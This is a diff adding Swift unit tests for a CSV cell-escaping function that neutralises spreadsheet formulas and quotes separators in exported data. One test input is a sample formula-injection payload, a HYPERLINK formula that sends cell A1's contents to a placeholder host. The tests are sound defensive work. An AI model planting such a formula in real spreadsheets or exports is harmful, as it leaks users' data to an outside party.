@@ -53,3 +53,17 @@ import XGateTestSupport
         }
     }
 }
+
+/// Exports opened in a spreadsheet: text from other platforms must not run as a formula.
+struct CSVCellTests {
+    @Test func formulasAreNeutralisedAndSeparatorsQuoted() {
+        #expect(csvCell("上海市松江区市场监督管理局") == "上海市松江区市场监督管理局")
+        #expect(csvCell("=HYPERLINK(\"http://x/?\"&A1)") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"")
+        #expect(csvCell("+86 21 1234") == "'+86 21 1234")
+        #expect(csvCell("-1") == "'-1")
+        #expect(csvCell("@SUM(A1)") == "'@SUM(A1)")
+        #expect(csvCell("a,b") == "\"a,b\"")
+        #expect(csvCell("line\rbreak") == "\"line\rbreak\"")
+        #expect(csvCell("") == "")
+    }
+}
